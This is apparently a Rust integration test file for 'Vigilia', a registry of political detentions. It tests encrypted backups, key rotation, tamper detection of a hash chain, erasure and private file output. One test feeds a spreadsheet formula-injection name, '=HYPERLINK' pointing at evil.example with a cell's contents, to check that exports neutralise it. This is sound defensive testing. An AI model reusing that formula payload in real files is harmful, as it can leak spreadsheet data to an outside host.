    assert!(stderr(&out).contains("HTTPS"), "{}", stderr(&out));
    assert!(stderr(&out).contains("--trusted-proxy"), "{}", stderr(&out));
    // A key file others can read.
    let key = r.path("registry.key");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o640)).unwrap();
        let out = r.run(&["serve", "--bind", "127.0.0.1:0"]);
        assert_eq!(out.status.code(), Some(2));
        assert!(stderr(&out).contains("chmod 600"), "{}", stderr(&out));
        std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    // The demo accounts, whose passwords were printed, outside --demo.
    r.ok(&["user", "add", "demo-admin", "--role", "admin"]);
    let out = r.run(&["serve", "--bind", "127.0.0.1:0"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("vigilia user revoke demo-admin"),
        "{}",
        stderr(&out)
    );
    // Without the key the registry is not opened at all.
    std::fs::rename(&key, r.path("elsewhere.key")).unwrap();
    let out = r.run(&["summary"]);
    assert!(stderr(&out).contains("--key-file"), "{}", stderr(&out));
    let other = r.path("other.key");
    std::fs::write(&other, format!("vigilia-key-1 {}\n", "ab".repeat(32))).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&other, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    let out = r.run(&["--key-file", other.to_str().unwrap(), "summary"]);
    assert!(stderr(&out).contains("key is wrong"), "{}", stderr(&out));
}

#[test]
fn a_backup_restores_the_same_head_on_either_engine_and_is_useless_without_its_identity() {
    let data = real_data("ovdinfo-moscow-2011-2013");
    let r = Registry::sqlite();
    r.ok(&["init", "--profile", &repo_file("profiles/ru.toml")]);
    r.ok(&[
        "import",
        "events",
        data.join("events_2013.csv").to_str().unwrap(),
        "--mapping",
        &repo_file("examples/ovdinfo/events-2013.toml"),
    ]);
    let verified = r.ok(&["verify"]);
    let head = verified.split("head ").nth(1).unwrap().trim().to_string();
    let copy = r.path("copy.age");
    r.ok(&["backup", "--out", copy.to_str().unwrap()]);
    // Encrypted: no place name of the data can be read in it.
    let bytes = std::fs::read(&copy).unwrap();
    assert!(bytes.starts_with(b"age-encryption.org/v1"));
    for needle in ["Москва", "vigilia-backup-1", "detention"] {
        assert!(
            !bytes.windows(needle.len()).any(|w| w == needle.as_bytes()),
            "{needle} readable in the backup"
        );
    }
    let identity = r.path("registry.backup-key");
    let mut targets = vec![Registry::sqlite()];
    targets.extend(Registry::postgres());
    for target in targets {
        // Without the identity, or with another registry's, nothing is restored.
        let out = target.run(&["restore", copy.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        let other = Registry::sqlite();
        other.ok(&["init"]);
        let wrong = other.path("registry.backup-key");
        let out = target.run(&[
            "restore",
            copy.to_str().unwrap(),
            "--identity",
            wrong.to_str().unwrap(),
        ]);
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(
            stderr(&out).contains("cannot be opened"),
            "{}",
            stderr(&out)
        );
        // A cut backup is refused with where it broke, and leaves neither registry nor key.
        let cut = r.path("cut.age");
        std::fs::write(&cut, &bytes[..bytes.len().min(400)]).unwrap();
        let out = target.run(&[
            "restore",
            cut.to_str().unwrap(),
            "--identity",
            identity.to_str().unwrap(),
        ]);
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(stderr(&out).contains("of the backup"), "{}", stderr(&out));
        assert!(!target.path("registry.key").exists());
        // With it: the same head, and verify passes.
        let restored = target.ok(&[
            "restore",
            copy.to_str().unwrap(),
            "--identity",
            identity.to_str().unwrap(),
        ]);
        assert!(restored.contains(&head), "{restored}");
        assert!(target.ok(&["verify"]).contains(&head));
        #[cfg(unix)]
        if target.url.starts_with("sqlite") {
            use std::os::unix::fs::PermissionsExt;
            // The database and the journals beside it (SQLite made them at the umask).
            for file in ["registry.db", "registry.db-wal", "registry.db-shm"] {
                let Ok(meta) = std::fs::metadata(target.path(file)) else {
                    continue;
                };
                assert_eq!(
                    meta.permissions().mode() & 0o777,
                    0o600,
                    "a restored registry is readable by its owner only: {file}"
                );
            }
        }
        assert_eq!(
            target.ok(&["balance", "--as-of", "2013-12-31", "--format", "json"]),
            r.ok(&["balance", "--as-of", "2013-12-31", "--format", "json"])
        );
        // A registry is never restored over another.
        let out = target.run(&[
            "restore",
            copy.to_str().unwrap(),
            "--identity",
            identity.to_str().unwrap(),
        ]);
        assert_ne!(out.status.code(), Some(0));
    }
}

#[test]
fn a_rewritten_chain_verifies_alone_but_not_against_a_checkpoint_or_a_publication() {
    let data = real_data("ovdinfo-moscow-2011-2013");
    let import = |r: &Registry, file: &str, mapping: &str| {
        r.ok(&[
            "import",
            "events",
            data.join(file).to_str().unwrap(),
            "--mapping",
            &repo_file(mapping),
        ]);
    };
    let a = Registry::sqlite();
    a.ok(&["init", "--profile", &repo_file("profiles/ru.toml")]);
    import(&a, "events_2013.csv", "examples/ovdinfo/events-2013.toml");
    let early = a.path("early.age");
    a.ok(&["backup", "--out", early.to_str().unwrap()]);
    import(
        &a,
        "events_2011-12_to_2012-12.csv",
        "examples/ovdinfo/events-2011-12_to_2012-12.toml",
    );
    let key = a.path("signing.key");
    let cp = a.path("checkpoint.txt");
    let out = a.ok(&[
        "checkpoint",
        "--signing-key",
        key.to_str().unwrap(),
        "--out",
        cp.to_str().unwrap(),
    ]);
    assert!(out.contains("New signing key"), "{out}");
    let public = out.split("Its public key: ").nth(1).unwrap();
    let public = public.lines().next().unwrap().trim().to_string();
    let cp_arg = cp.to_str().unwrap();
    let ok = a.ok(&["verify", "--anchor", cp_arg, "--trusted-key", &public]);
    assert!(ok.contains("Matches 1 outside anchors"), "{ok}");
    assert!(
        ok.contains(&public[..4]),
        "the signing key's fingerprint is shown: {ok}"
    );
    // A checkpoint is only as good as the key it is checked against: without one, it is refused.
    let out = a.run(&["verify", "--anchor", cp_arg]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("--trusted-key"), "{}", stderr(&out));

    // A key holder rewrites history from the early backup on: one event of 2012 with fewer
    // detained. The forged chain holds together by itself.
    let b = Registry::sqlite();
    b.ok(&[
        "restore",
        early.to_str().unwrap(),
        "--identity",
        a.path("registry.backup-key").to_str().unwrap(),
    ]);
    let forged = b.path("forged.csv");
    let mut rd = csv::Reader::from_path(data.join("events_2011-12_to_2012-12.csv")).unwrap();
    let mut wr = csv::Writer::from_path(&forged).unwrap();
    let headers = rd.headers().unwrap().clone();
    let count = headers
        .iter()
        .position(|h| h == "number_of_detentions")
        .unwrap();
    wr.write_record(&headers).unwrap();
    for (i, row) in rd.records().enumerate() {
        let mut row: Vec<String> = row.unwrap().iter().map(str::to_string).collect();
        if i == 0 {
            assert_eq!(row[count], "198");
            row[count] = "98".into();
        }
        wr.write_record(&row).unwrap();
    }
    wr.flush().unwrap();
    b.ok(&[
        "import",
        "events",
        forged.to_str().unwrap(),
        "--mapping",
        &repo_file("examples/ovdinfo/events-2011-12_to_2012-12.toml"),
    ]);
    assert!(b.ok(&["verify"]).contains("Chain intact"));
    let out = b.run(&["verify", "--anchor", cp_arg, "--trusted-key", &public]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(stderr(&out).contains("rewritten"), "{}", stderr(&out));
    // The forger signs a checkpoint of the rewritten chain with a key of their own: it holds
    // together, but it is not the organisation's key.
    let forged_cp = b.path("forged-checkpoint.txt");
    b.ok(&[
        "checkpoint",
        "--signing-key",
        b.path("forger.key").to_str().unwrap(),
        "--out",
        forged_cp.to_str().unwrap(),
    ]);
    let out = b.run(&[
        "verify",
        "--anchor",
        forged_cp.to_str().unwrap(),
        "--trusted-key",
        &public,
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("not a trusted"), "{}", stderr(&out));
    // A checkpoint altered by hand is refused: its signature no longer matches.
    let text = std::fs::read_to_string(&cp).unwrap();
    let head_b = b.ok(&["verify"]);
    let head_b = head_b.split("head ").nth(1).unwrap().trim();
    let line = text.lines().find(|l| l.starts_with("head: ")).unwrap();
    let altered = a.write(
        "altered.txt",
        &text.replace(line, &format!("head: {head_b}")),
    );
    let out = b.run(&[
        "verify",
        "--anchor",
        altered.to_str().unwrap(),
        "--trusted-key",
        &public,
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("signature"), "{}", stderr(&out));
    // A published balance's head is an anchor too (as /api/publications gives it).
    let facts = a.facts();
    let verified = a.ok(&["verify"]);
    let head_a = verified.split("head ").nth(1).unwrap().trim();
    let publication = a.write(
        "publication.json",
        &format!(
            r#"[{{"as_of": "2013-12-31", "ledger_seq": {facts}, "ledger_head": "{head_a}"}}]"#
        ),
    );
    a.ok(&["verify", "--anchor", publication.to_str().unwrap()]);
    let out = b.run(&["verify", "--anchor", publication.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
}

/// Every stored change, as its JSON, read from the database itself (with the SQLite key).
fn stored_changes(r: &Registry) -> String {
    let sql = "SELECT change FROM facts ORDER BY seq";
    let rows: Vec<String> = match r.url.strip_prefix("sqlite://") {
        Some(db) => open_keyed(Path::new(db))
            .prepare(sql)
            .unwrap()
            .query_map([], |row| row.get(0))
            .unwrap()
            .map(Result::unwrap)
            .collect(),
        None => postgres::Client::connect(&r.url, postgres::NoTls)
            .unwrap()
            .query(sql, &[])
            .unwrap()
            .iter()
            .map(|row| row.get(0))
            .collect(),
    };
    rows.join("\n")
}

#[test]
fn notes_are_stored_encrypted_and_read_back_by_export_import_and_after_a_new_key() {
    both_engines(|r| {
        r.ok(&["init"]);
        let file = r.write(
            "notes.csv",
            "detention_ref,person_ref,given_names,paternal_surname,arrest_date,arrest_state,notes\n\
             D1,P1,José Gregorio,Pérez,2024-07-30,Zulia,La familia teme represalias del SEBIN\n",
        );
        r.ok(&["import", "detentions", file.to_str().unwrap()]);
        let stored = stored_changes(r);
        assert!(stored.contains(r#""encrypted":1"#), "{stored}");
        assert!(!stored.contains("represalias"), "{stored}");

        let export = |r: &Registry, extra: &[&str]| {
            let out = r.path("out.csv");
            let _ = std::fs::remove_file(&out);
            let mut args = extra.to_vec();
            args.extend(["export", "detentions", "--out", out.to_str().unwrap()]);
            r.ok(&args);
            std::fs::read_to_string(&out).unwrap()
        };
        assert!(export(r, &[]).contains("La familia teme represalias del SEBIN"));
        // The same notes again add nothing; other notes are a new fact.
        let facts = r.facts();
        r.ok(&["import", "detentions", file.to_str().unwrap()]);
        assert_eq!(r.facts(), facts);

        // A data key lost behind Vigilia's back is named by `verify`.
        if let Some(db) = r.url.strip_prefix("sqlite://") {
            let conn = open_keyed(Path::new(db));
            conn.execute_batch("UPDATE keyring SET name = 'gone' WHERE name = 'detention:1'")
                .unwrap();
            let out = r.run(&["verify"]);
            assert_ne!(out.status.code(), Some(0));
            assert!(stderr(&out).contains("detention:1"), "{}", stderr(&out));
            conn.execute_batch("UPDATE keyring SET name = 'detention:1' WHERE name = 'gone'")
                .unwrap();
            r.ok(&["verify"]);
        }

        // After a new key the notes read the same (on PostgreSQL only the keyring changes).
        let new = r.path("new.key");
        r.ok(&["keys", "rotate", "--new-key-file", new.to_str().unwrap()]);
        let text = export(r, &["--key-file", new.to_str().unwrap()]);
        assert!(
            text.contains("La familia teme represalias del SEBIN"),
            "{text}"
        );

        // Erased for good: gone from the export, and the chain still verifies.
        let key = ["--key-file", new.to_str().unwrap()];
        for (record, reason, says) in [
            ("person:1", "x", "name a report or a detention"),
            ("detention:99", "x", "There is no detention 99"),
            ("detention:1", " ", "Say why"),
        ] {
            let out = r.run(&[&key[..], &["erase", record, "--reason", reason]].concat());
            assert_eq!(out.status.code(), Some(2));
            assert!(stderr(&out).contains(says), "{}", stderr(&out));
        }
        let erase = ["erase", "detention:1", "--reason", "pedido de la familia"];
        let out = r.ok(&[&key[..], &erase[..]].concat());
        assert!(out.contains("Erased for good"), "{out}");
        let text = export(r, &key);
        assert!(!text.contains("represalias"), "{text}");
        r.ok(&[&key[..], &["verify"]].concat());
        if r.url.starts_with("postgres") {
            // The old key no longer unwraps the keyring; without a key nothing opens.
            let old = r.run(&["export", "detentions", "--out", "x.csv"]);
            assert_eq!(old.status.code(), Some(2), "{}", stderr(&old));
            let none = r
                .command(&["verify"])
                .env_remove("VIGILIA_KEY_FILE")
                .output()
                .unwrap();
            assert!(stderr(&none).contains("--key-file"), "{}", stderr(&none));
        }
    });
}

#[test]
fn a_postgresql_registry_is_not_made_without_a_key() {
    let Some(r) = Registry::postgres() else {
        eprintln!("PostgreSQL half skipped: set VIGILIA_TEST_POSTGRES_URL");
        return;
    };
    let out = r
        .command(&["init"])
        .env_remove("VIGILIA_KEY_FILE")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("--key-file FILE"), "{}", stderr(&out));
    r.ok(&["init"]);
    assert!(r.path("registry.key").exists());
}

#[test]
fn rotating_the_key_re_encrypts_the_registry_and_retires_the_old_key() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    r.ok(&["user", "add", "ana", "--role", "lawyer"]);
    let before = r.ok(&["verify"]);
    let new = r.path("new.key");
    let out = r.ok(&["keys", "rotate", "--new-key-file", new.to_str().unwrap()]);
    assert!(out.contains("no longer opens it"), "{out}");
    let old = r.run(&["verify"]);
    assert_eq!(old.status.code(), Some(2));
    assert!(stderr(&old).contains("key is wrong"), "{}", stderr(&old));
    assert!(
        !stderr(&old).contains("hmac"),
        "no SQLCipher noise: {}",
        stderr(&old)
    );
    let after = r.ok(&["--key-file", new.to_str().unwrap(), "verify"]);
    assert_eq!(after, before, "the same chain, now under the new key");
    // A key file is never written over.
    let out = r.run(&[
        "--key-file",
        new.to_str().unwrap(),
        "keys",
        "rotate",
        "--new-key-file",
        new.to_str().unwrap(),
    ]);
    assert_ne!(out.status.code(), Some(0));
    assert!(r.ok(&["--key-file", new.to_str().unwrap(), "verify"]) == before);
}

/// `serve --demo` replaces its own demo registry: pointed at a real one (--database, or
/// VIGILIA_DATABASE_URL set for the organisation's commands), it leaves that one as it was.
#[test]
fn serve_demo_never_touches_the_registry_it_is_pointed_at() {
    use std::io::BufRead;
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let before = r.facts();
    let real = std::fs::read(r.path("registry.db")).unwrap();
    let mut child = r
        .command(&["serve", "--demo", "--bind", "127.0.0.1:0"])
        .env("VIGILIA_DATABASE_URL", &r.url)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let out = std::io::BufReader::new(child.stdout.take().unwrap());
    let listening = out
        .lines()
        .map_while(Result::ok)
        .any(|l| l.contains("listening on"));
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(listening, "the demo server started");
    assert!(r.path("demo.db").exists(), "on its own demo.db");
    assert_eq!(std::fs::read(r.path("registry.db")).unwrap(), real);
    assert_eq!(r.facts(), before, "the real registry is whole");
}

/// A name sent as a spreadsheet formula (`=HYPERLINK(…)` on the public form) is exported as
/// text a spreadsheet will not run, and the export still imports back to the same values,
/// byte for byte on the next export.
#[test]
fn exported_cells_are_never_formulas_and_still_round_trip() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")",
        "+58 0414",
        "-Ana",
        "@SUM(1)",
        "'=ya con apóstrofo",
        "'Ana",
    ];
    let rows: Vec<String> = (names.iter().enumerate())
        .map(|(i, n)| {
            let n = n.replace('"', "\"\"");
            format!(
                "D{i},P{i},\"{n}\",Gómez,,,F,,2024-07-30,Zulia,SEBIN,,,,recognised,1,2024-07-31,"
            )
        })
        .collect();
    let input = r.write("in.csv", &format!("{HEADER}\n{}\n", rows.join("\n")));
    r.ok(&["import", "detentions", input.to_str().unwrap()]);
    let e1 = r.path("e1.csv");
    r.ok(&["export", "detentions", "--out", e1.to_str().unwrap()]);
    let mut read = csv::Reader::from_path(&e1).unwrap();
    let given = read
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "given_names")
        .unwrap();
    let cells: Vec<String> = read
        .records()
        .map(|x| x.unwrap()[given].to_string())
        .collect();
    for cell in &cells {
        let first = cell.chars().next().unwrap();
        assert!(
            !"=+-@\t\r".contains(first),
            "a formula in the export: {cell}"
        );
    }
    assert!(cells.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")".to_string()));
    assert!(
        cells.contains(&"'Ana".to_string()),
        "an apostrophe before a letter stays as it is"
    );
    let other = Registry::sqlite();
    other.ok(&["init"]);
    other.ok(&["import", "detentions", e1.to_str().unwrap()]);
    let e2 = other.path("e2.csv");
    other.ok(&["export", "detentions", "--out", e2.to_str().unwrap()]);
    assert_eq!(std::fs::read(&e1).unwrap(), std::fs::read(&e2).unwrap());
    let listed = other.ok(&[
        "balance",
        "--list",
        "political_prisoners",
        "--format",
        "csv",
    ]);
    assert!(listed.contains("'=HYPERLINK"), "{listed}");
    assert!(listed.contains("'-Ana"), "{listed}");
}

/// `demo --replace` replaces only a demo registry: pointed at a real one (a registry named by
/// the environment), it refuses and leaves it and its key as they were.
#[test]
fn demo_replace_never_deletes_a_real_registry() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let before = r.facts();
    let key = std::fs::read(r.path("registry.key")).unwrap();
    let out = r.run(&["demo", "--replace", "--detentions", "5"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("demo.db"), "{}", stderr(&out));
    assert_eq!(std::fs::read(r.path("registry.key")).unwrap(), key);
    assert_eq!(r.facts(), before);
    // Its own demo registry it replaces, as often as asked.
    let demo = Registry {
        url: format!("sqlite://{}", r.path("demo.db").display()),
        dir: tempfile::tempdir().unwrap(),
    };
    let run = |n: &str| {
        let mut c = demo.command(&["demo", "--replace", "--detentions", n]);
        assert!(c.output().unwrap().status.success());
    };
    run("5");
    run("7");
    assert!(demo.ok(&["summary"]).contains("detentions: 7"));
}

/// What Vigilia writes never lands on the registry's own files, is readable by its owner only
/// (it holds names and cédulas), and leaves nothing behind a link another user left.
#[test]
fn outputs_never_replace_the_registrys_files_and_are_private() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let key = std::fs::read(r.path("registry.key")).unwrap();
    for own in ["registry.key", "registry.db", "registry.backup-key"] {
        let out = r.run(&[
            "export",
            "detentions",
            "--out",
            r.path(own).to_str().unwrap(),
        ]);
        assert_eq!(out.status.code(), Some(2), "{own}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("registry's own files"),
            "{}",
            stderr(&out)
        );
    }
    assert_eq!(std::fs::read(r.path("registry.key")).unwrap(), key);
    r.facts();
    let exported = r.path("export.csv");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        // A link another user left at the name asked for is replaced, never written through.
        let theirs = r.path("theirs.txt");
        std::fs::write(&theirs, "").unwrap();
        std::os::unix::fs::symlink(&theirs, &exported).unwrap();
        r.ok(&["export", "detentions", "--out", exported.to_str().unwrap()]);
        let mode = std::fs::metadata(&exported).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600);
        assert_eq!(std::fs::read(&theirs).unwrap(), b"");
        assert!(!std::fs::symlink_metadata(&exported).unwrap().is_symlink());
        // The same for every writer: a link to the key where the demo's CSV goes.
        let csv = r.path("out.csv");
        std::os::unix::fs::symlink(r.path("registry.key"), &csv).unwrap();
        r.ok(&["demo", "--csv", csv.to_str().unwrap(), "--detentions", "5"]);
        assert_eq!(std::fs::read(r.path("registry.key")).unwrap(), key);
        // Nothing half-written is left beside it.
        let names: Vec<String> = std::fs::read_dir(r.path("."))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert!(!names.iter().any(|n| n.ends_with(".partial")), "{names:?}");
    }
}

/// A backup is encrypted to the recipient the registry's facts name, and says which: a
/// database user who changes the current-state row (PostgreSQL, without the key file) does not
/// redirect it.
#[test]
fn a_backup_goes_to_the_recipient_the_facts_name_not_a_changed_row() {
    let Some(r) = Registry::postgres() else {
        eprintln!("skipped: set VIGILIA_TEST_POSTGRES_URL");
        return;
    };
    r.ok(&["init"]);
    let mut db = postgres::Client::connect(&r.url, postgres::NoTls).unwrap();
    let state: String = db
        .query_one("SELECT state FROM records WHERE kind = 'registry'", &[])
        .unwrap()
        .get(0);
    let ours = state
        .split('"')
        .find(|w| w.starts_with("age1"))
        .unwrap()
        .to_string();
    let theirs = age::x25519::Identity::generate().to_public().to_string();
    let changed = state.replace(&ours, &theirs);
    db.execute(
        "UPDATE records SET state = $1 WHERE kind = 'registry'",
        &[&changed],
    )
    .unwrap();
    let copy = r.path("copy.age");
    let out = r.ok(&["backup", "--out", copy.to_str().unwrap()]);
    assert!(out.contains(&ours) && !out.contains(&theirs), "{out}");
    let restored = Registry::sqlite();
    restored.ok(&[
        "restore",
        copy.to_str().unwrap(),
        "--identity",
        r.path("vigilia.backup-key").to_str().unwrap(),
    ]);
}

/// Whoever holds the key restores any account's access, a coordinator's too: a new link, shown
/// once; an account that does not exist is named in the error.
#[test]
fn the_key_holder_restores_a_coordinators_access() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let first = r.ok(&["user", "add", "ana", "--role", "coordinator"]);
    let again = r.ok(&["user", "reset", "ana"]);
    assert!(again.contains("/invitation/"), "{again}");
    let link = |out: &str| {
        out.lines()
            .find(|l| l.contains("/invitation/"))
            .unwrap()
            .to_string()
    };
    assert_ne!(link(&first), link(&again), "a new link");
    let none = r.run(&["user", "reset", "nadie"]);
    assert_ne!(none.status.code(), Some(0));
    assert!(stderr(&none).contains("nadie"), "{}", stderr(&none));
}

/// `vigilia alerts --format json`: each alert has its kind, the organisation's reference, since
/// when and how many days; a day before any arrest has none.
#[test]
fn alerts_are_listed_as_json_with_their_kind_reference_and_days() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let file = r.write(
        "d.csv",
        "detention_ref,person_ref,arrest_date,given_names,paternal_surname,arrest_state,whereabouts_unknown_since\n\
         D-1,P-1,2026-11-01,Ana,Pérez,Zulia,\n\
         D-2,P-2,2026-11-05,Berta,Rojas,Zulia,2026-11-10\n",
    );
    r.ok(&["import", "detentions", file.to_str().unwrap()]);
    let out = r.ok(&["alerts", "--as-of", "2026-11-20", "--format", "json"]);
    let alerts: serde_json::Value = serde_json::from_str(&out).unwrap();
    // The disappeared first: ten days, to escalate, inside the UN's three months.
    let first = &alerts[0];
    assert_eq!(first["kind"], "whereabouts_unknown", "{out}");
    assert_eq!(first["detention_ref"], "D-2");
    assert_eq!(first["since"], "2026-11-10");
    assert_eq!(first["days"], 10);
    assert_eq!(first["escalate"], true);
    assert_eq!(first["urgent_window"], true);
    let overdue: Vec<_> = alerts
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["kind"] == "presentation_overdue")
        .collect();
    assert_eq!(overdue.len(), 2, "{out}");
    let ana = overdue
        .iter()
        .find(|a| a["detention_ref"] == "D-1")
        .unwrap();
    assert_eq!(ana["since"], "2026-11-03");
    assert_eq!(ana["days"], 17);
    // Fifteen days after the arrest with no contact recorded: incommunicado since the 16th.
    let alone: Vec<_> = alerts
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["kind"] == "incommunicado")
        .collect();
    assert_eq!(alone.len(), 1, "{out}");
    assert_eq!(alone[0]["detention_ref"], "D-1");
    assert_eq!(alone[0]["since"], "2026-11-16");
    let none = r.ok(&["alerts", "--as-of", "2026-10-01", "--format", "json"]);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&none).unwrap(),
        serde_json::json!([])
    );
}

/// Three thousand detentions moved from SQLite to PostgreSQL (which stores facts by COPY and
/// records by COPY through a temporary table, on a thread of its own): the same chain, head for
/// head, and the same export, byte for byte.
#[test]
fn a_registry_moved_to_postgresql_keeps_every_fact_and_record() {
    let Some(pg) = Registry::postgres() else {
        eprintln!("PostgreSQL half skipped: set VIGILIA_TEST_POSTGRES_URL");
        return;
    };
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let csv = r.demo_csv("d.csv", 11, 3000);
    r.ok(&["import", "detentions", csv.to_str().unwrap()]);
    let copy = r.path("copy.age");
    r.ok(&["backup", "--out", copy.to_str().unwrap()]);
    let identity = r.path("registry.backup-key");
    pg.ok(&[
        "restore",
        copy.to_str().unwrap(),
        "--identity",
        identity.to_str().unwrap(),
    ]);
    let head = |x: &Registry| {
        let v = x.ok(&["verify"]);
        v.split("head ").nth(1).unwrap().trim().to_string()
    };
    assert_eq!(head(&r), head(&pg));
    let (a, b) = (r.path("a.csv"), pg.path("b.csv"));
    r.ok(&["export", "detentions", "--out", a.to_str().unwrap()]);
    pg.ok(&["export", "detentions", "--out", b.to_str().unwrap()]);
    let (a, b) = (std::fs::read(a).unwrap(), std::fs::read(b).unwrap());
    assert!(a.len() > 100_000, "{} bytes", a.len());
    assert!(a == b, "the exports differ");
}

/// More rows than a batch: alone on the registry, a batch is committed without waiting while
/// the next is built (a person arrested again reads what the batch before wrote); with another
/// session on the database, each waits. Either way, on either engine, the same facts and the
/// same export, and importing again adds nothing.
#[test]
fn a_large_import_is_the_same_committed_batch_after_batch_or_waiting() {
    let lite = Registry::sqlite();
    lite.ok(&["init"]);
    let csv = lite.demo_csv("d.csv", 5, 45_000);
    let file = csv.to_str().unwrap();
    // What the import said (rows and new facts), and the export.
    let imported = |r: &Registry| {
        let out = r.ok(&["import", "detentions", file]);
        assert!(out.contains("45,000 rows read: 45,000 stored"), "{out}");
        r.ok(&["verify"]);
        let export = r.path("export.csv");
        r.ok(&["export", "detentions", "--out", export.to_str().unwrap()]);
        let again = r.ok(&["import", "detentions", export.to_str().unwrap()]);
        assert!(again.contains("45,000 unchanged"), "{again}");
        (out.trim().to_string(), std::fs::read(export).unwrap())
    };
    let alone = imported(&lite);
    let Some(pg) = Registry::postgres() else {
        eprintln!("PostgreSQL half skipped: set VIGILIA_TEST_POSTGRES_URL");
        return;
    };
    pg.ok(&["init"]);
    // Another session on the database: the import waits for each batch.
    let watched = Registry::postgres().unwrap();
    watched.ok(&["init"]);
    let _watcher = postgres::Client::connect(&watched.url, postgres::NoTls).unwrap();
    for (said, export) in [imported(&pg), imported(&watched)] {
        assert_eq!(said, alone.0);
        assert!(export == alone.1, "the exports differ");
    }
}
